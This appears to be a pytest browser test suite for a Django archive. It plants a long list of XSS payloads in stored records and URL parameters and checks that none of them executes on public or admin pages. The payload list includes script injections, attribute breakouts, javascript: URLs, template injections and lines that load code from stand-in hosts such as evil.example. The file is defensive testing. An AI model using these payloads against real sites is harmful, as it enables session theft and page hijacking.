"""Scripts stored wherever words are stored, and typed wherever a page repeats what was typed: none runs.

Every public page and every page of the admin is opened in Chromium; each
payload would call ``pwn()`` if the browser took it for anything but words.
"""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import date
from urllib.parse import quote, urlencode

import pytest
from django.conf import settings
from django.contrib.admin.models import CHANGE, LogEntry
from django.contrib.contenttypes.models import ContentType
from django.test import Client, override_settings
from django.urls import reverse

from statements.models import Article, Edit, ImportOutcome, ImportRun, Statement
from tests.factories import (
    ArticleFactory,
    BlockFactory,
    CountryFactory,
    CountryNameFactory,
    OfficeFactory,
    OriginalFactory,
    PublisherFactory,
    SpeakerFactory,
    UserFactory,
    VariantNameFactory,
    make_statement,
)

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

PAYLOADS = [
    # elements that run what they hold
    "<script>pwn()</script>",
    "<ScRiPt>pwn()</sCrIpT>",
    "<script src=//evil.example/pwn.js></script>",
    "<svg><script>pwn()</script></svg>",
    "<math><mtext><script>pwn()</script>",
    "<iframe srcdoc='<script>parent.pwn()</script>'>",
    # handlers of events that need nobody's hand
    "<img src=x onerror=pwn()>",
    "<svg/onload=pwn()>",
    "<body onload=pwn()>",
    "<details open ontoggle=pwn()>",
    "<input autofocus onfocus=pwn()>",
    "<video src=x onerror=pwn()>",
    "<style onload=pwn()></style>",
    # out of where they stand: attributes, titles, fields, styles, comments, data
    '"><img src=x onerror=pwn()>',
    "'><svg onload=pwn()>",
    '" autofocus onfocus="pwn()',
    "' autofocus onfocus='pwn()",
    "` autofocus onfocus=pwn() `",
    "</title><script>pwn()</script>",
    "</textarea><script>pwn()</script>",
    "</style><script>pwn()</script>",
    "</option></select><script>pwn()</script>",
    "--><script>pwn()</script>",
    "]]><script>pwn()</script>",
    '"}</script><script>pwn()</script>',
    "';pwn();//",
    # addresses that run
    "javascript:pwn()",
    "JaVaScRiPt:pwn()//https://a.org/",
    "java&#10;script:pwn()",
    "data:text/html,<script>pwn()</script>",
    "vbscript:pwn()",
    '<a href="javascript:pwn()">pwn</a>',
    "<iframe src=javascript:pwn()>",
    "<object data=javascript:pwn()>",
    "<form action=javascript:pwn()><button>",
    # what turns a page to another place
    "<base href=//evil.example/ id=pwn>",
    "<meta http-equiv=refresh content=0;url=//pwn.example>",
    "<link rel=stylesheet href=//pwn.example>",
    # templates
    "{{ pwn }}{% debug %}",
    "${pwn()}",
    "{{constructor.constructor('pwn()')()}}",
    # escaped, or disguised, until somebody helps
    "&lt;script&gt;pwn()&lt;/script&gt;",
    "%3Cscript%3Epwn()%3C/script%3E",
    "\\u003cscript\\u003epwn()\\u003c/script\\u003e",
    "\uff1cscript\uff1epwn()\uff1c/script\uff1e",
    "<scr\u200bipt>pwn()</script>",
    "\u202e<script>pwn()</script>",
]

# Runs before the page's own, whatever its policy says.
WATCH = """
window.violations = [];
window.pwn = () => { window.pwned = true; };
document.addEventListener('securitypolicyviolation', event =>
    window.violations.push(event.violatedDirective + ' ' + event.blockedURI + ' ' + event.sample));
"""

# What a page holds that the archive never writes.
FOREIGN = """() => {
    const own = address => /^https?:$/.test(new URL(address, location.origin).protocol);
    const faults = [...window.violations];
    if (window.pwned) faults.push('a payload ran');
    for (const element of document.querySelectorAll('*')) {
        const name = element.localName;
        if (['iframe', 'object', 'embed', 'base', 'math', 'video'].includes(name) || element.id === 'pwn')
            faults.push('<' + name + '>');
        if (name === 'script' && element.type !== 'application/json' &&
            !(element.src && new URL(element.src).origin === location.origin))
            faults.push('<script>');
        if (name === 'meta' && element.httpEquiv) faults.push('<meta http-equiv>');
        for (const {name: attribute, value} of element.attributes) {
            if (attribute.startsWith('on')) faults.push(name + ' ' + attribute);
            if (['href', 'src', 'action', 'formaction', 'cite', 'data', 'xlink:href'].includes(attribute) &&
                !own(value)) faults.push(name + ' ' + attribute + '=' + value);
        }
    }
    return faults;
}"""
SHOWN = "document.documentElement.textContent.includes('pwn')"


@dataclass(frozen=True)
class Poisoned:
    """Records every one of whose words is a payload."""

    article: Article
    statement: Statement
    gone: Statement

    def pages(self) -> list[str]:
        speaker = self.statement.attributions.get().speaker
        return [
            self.statement.get_absolute_url(),
            self.gone.get_absolute_url(),
            self.article.get_absolute_url(),
            speaker.get_absolute_url(),
            speaker.country.get_absolute_url(),
            reverse("publisher-detail", args=[self.article.publisher.slug]),
        ]

    def pair_pages(self) -> list[str]:
        code, other = (country.code for country in self.article.mentions.all())
        return [f"/countries/{other}/?as=about", f"/countries/{code}/about/{other}/"]

    def admin_pages(self) -> list[str]:
        speaker = self.statement.attributions.get().speaker
        return [change_page(row) for row in (self.article, self.statement, speaker)]

    def other_admin_pages(self) -> list[str]:
        rows = (self.article.publisher, *self.article.mentions.all())
        return [change_page(row) for row in rows]


def change_page(row) -> str:
    return reverse(f"admin:statements_{row._meta.model_name}_change", args=[row.pk])


def packed(payloads: list[str], most: int = 195) -> list[list[str]]:
    """As many in a row as a name has room for."""
    groups: list[list[str]] = [[]]
    for payload in payloads:
        if len(" ".join([*groups[-1], payload])) > most:
            groups.append([])
        groups[-1].append(payload)
    return groups


def poison(number: int, payloads: list[str], user) -> Poisoned:
    words = " ".join(payloads)
    here, there = (CountryFactory(code=f"Q{side}{number:02}", name=words[:110]) for side in "AB")
    CountryNameFactory(country=here, text=words)
    publisher = PublisherFactory(
        slug=f"publisher-{number}", name=words, country=here, names=payloads, domains=payloads, source=words
    )
    speaker = SpeakerFactory(
        slug=f"speaker-{number}", preferred_name=words, country=here, note=words, source=words
    )
    VariantNameFactory(speaker=speaker, text=words)
    OfficeFactory(speaker=speaker, title=words, source=words, start=payloads[0][:32])
    text = f"{words}\n\n" + "\n\n".join(f"It was {words} {payload} so {payload}." for payload in payloads)
    article = ArticleFactory(
        title=words, byline=words, publisher=publisher, address=payloads[0], language=payloads[-1][:35],
        published=date(2020, 7, 16), published_precision="day", published_basis=payloads[0][:32],
        original=OriginalFactory(location=words, media_type=payloads[0][:100]),
        text=text, mentions=[here, there],
    )  # fmt: skip
    BlockFactory(article=article, start=0, end=len(words), reason=payloads[0][:64])
    known = {
        "article": article, "speaker": speaker, "country": here, "about": [there], "role": words,
        "agency": publisher, "occasion": words, "said_words": words[:100],
        "said": date(2020, 7, 16), "said_basis": words, "rule": payloads[0][:64], "confidence": words[:100],
    }  # fmt: skip
    statements = [
        make_statement(f"{payload} so {payload}", source=words, cue=payload, **known) for payload in payloads
    ]
    make_statement(words, article=article, speaker=None, country=there, about=[here], kind="direct")
    gone = make_statement(
        payloads[0], article=article, speaker=speaker, review_state="withdrawn", review_reason=words
    )
    for row in (article, statements[0], speaker, here, publisher):
        log_change(row, words, payloads, user)
    return Poisoned(article, statements[0], gone)


def log_change(row, words: str, payloads: list[str], user) -> None:
    record = {"record": row._meta.model_name, "record_id": row.pk, "field": words[:64]}
    Edit.objects.create(**record, old=words, new=payloads, who=user, why=words)
    LogEntry.objects.create(
        user=user,
        content_type=ContentType.objects.get_for_model(row),
        object_id=row.pk,
        object_repr=words,
        action_flag=CHANGE,
        change_message=words,
    )


def typed(payload: str) -> list[str]:
    """Addresses that repeat what was typed."""
    said = urlencode(
        dict.fromkeys(("q", "country", "about", "speaker", "act", "from", "sort", "page"), payload)
    )
    return [
        f"/statements/?{said}",
        f"/speakers/?{said}&kind={quote(payload)}",
        f"/{quote(payload, safe='')}/",
    ]


@contextmanager
def watched_page(browser, url: str, cookies: dict[str, str] | None = None) -> Iterator:
    """A page that notes dialogs, errors and what the console says in ``complaints``."""
    context = browser.new_context(service_workers="block")
    context.add_cookies(
        [{"name": name, "value": value, "url": url} for name, value in (cookies or {}).items()]
    )
    context.add_init_script(WATCH)
    page = context.new_page()
    page.complaints = []
    page.on("dialog", lambda dialog: refuse(page, dialog))
    page.on("pageerror", lambda error: page.complaints.append(f"{page.url}: {error}"))
    page.on("console", lambda message: note(page, message))
    try:
        yield page
    finally:
        context.close()


def refuse(page, dialog) -> None:
    page.complaints.append(f"{page.url}: {dialog.message}")
    dialog.dismiss()


def note(page, message) -> None:
    if message.type in ("error", "warning") and "Failed to load resource" not in message.text:
        page.complaints.append(f"{page.url}: {message.text}")


def visit(page, addresses: list[str], *, status: tuple[int, ...] = (200,)) -> None:
    """Open each; nothing runs, nothing foreign stands in it, and the payloads are there, as words."""
    for address in addresses:
        answer = page.goto(address)
        assert answer.status in status, address
        assert page.evaluate(FOREIGN) == [], address
        assert page.evaluate(SHOWN), address
    assert page.complaints == []


@pytest.fixture
def root(db):
    return UserFactory(username=PAYLOADS[0], first_name=PAYLOADS[6], is_staff=True, is_superuser=True)


@pytest.fixture
def archive(root) -> list[Poisoned]:
    return [poison(number, payloads, root) for number, payloads in enumerate(packed(PAYLOADS))]


def poison_imports(user) -> list[str]:
    """What an import kept has room for every payload at once; gives the pages of the admin that show it."""
    words = " ".join(PAYLOADS)
    run = ImportRun.objects.create(pipeline_version="1", command=words)
    original = OriginalFactory(location=words[:1000])
    outcome = ImportOutcome.objects.create(
        run=run, location=words[:1000], result="held", reason=words, original=original
    )
    log_change(outcome, words[:200], PAYLOADS, user)
    rows = [run, original, outcome, Edit.objects.get(record="importoutcome")]
    return [*map(change_page, rows), change_page(outcome).replace("change", "history"), change_page(user)]


LISTS = ["/", "/matrix/", "/statements/", "/statements/?q=pwn", "/countries/", "/speakers/", "/articles/"]


def test_nothing_stored_runs_on_public_pages(browser, live_server, archive) -> None:
    url = live_server.url
    with watched_page(browser, url) as page:
        visit(page, [url + path for path in LISTS + archive[0].pair_pages()])
        for poisoned in archive:
            visit(page, [url + path for path in poisoned.pages()], status=(200, 410))


def test_nothing_typed_runs_on_public_pages(browser, live_server) -> None:
    url = live_server.url
    with watched_page(browser, url) as page:
        for group in packed(PAYLOADS, most=400):
            visit(page, [url + path for path in typed(" ".join(group))[:2]])
            # A path that is not found is not repeated.
            for path in typed(" ".join(group))[2:]:
                assert page.goto(url + path).status == 404
                assert page.evaluate(FOREIGN) == [], path
        assert page.complaints == []


@pytest.fixture
def session(root) -> Iterator[dict[str, str]]:
    """Of an administrator, with cookies that a browser takes by plain HTTP."""
    plain = {"SESSION_COOKIE_NAME": "session", "SESSION_COOKIE_SECURE": False}
    with override_settings(**plain, CSRF_COOKIE_NAME="csrf", CSRF_COOKIE_SECURE=False):
        client = Client()
        client.force_login(root)
        yield {settings.SESSION_COOKIE_NAME: client.cookies["session"].value}


MODELS = (
    "original", "article", "country", "speaker", "publisher", "statement",
    "importrun", "importoutcome", "edit", "user",
)  # fmt: skip


def test_nothing_stored_runs_in_the_admin(browser, live_server, archive, session, root) -> None:
    url = live_server.url
    lists = ["/admin/", "/admin/password_change/", f"/admin/statements/user/{root.pk}/password/"]
    lists += [f"/admin/statements/{model}/" for model in MODELS]
    lists += [f"/admin/statements/{model}/add/" for model in ("country", "speaker", "publisher", "user")]
    once = poison_imports(root) + archive[0].other_admin_pages()
    with watched_page(browser, url, session) as page:
        visit(page, [url + path for path in lists + once])
        for poisoned in archive:
            visit(page, [url + path for path in poisoned.admin_pages()])


def test_nothing_runs_in_what_the_admin_adds_by_script(browser, live_server, archive, session) -> None:
    """Names found while typing, and the window for a date."""
    url = live_server.url
    with watched_page(browser, url, session) as page:
        visit(page, [url + change_page(archive[0].statement)])
        page.locator(".select2-selection").first.click()
        page.locator(".select2-search__field").last.fill("script")
        page.locator(".select2-results__option", has_text="pwn").first.wait_for()
        assert page.evaluate(FOREIGN) == []
        page.locator(".select2-results__option", has_text="pwn").first.click()
        assert page.evaluate(FOREIGN) == []
        visit(page, [url + change_page(archive[0].article)])
        page.locator("#calendarlink0").click()
        page.locator("#calendarbox0").wait_for()
        assert page.evaluate(FOREIGN) == []
        assert page.complaints == []
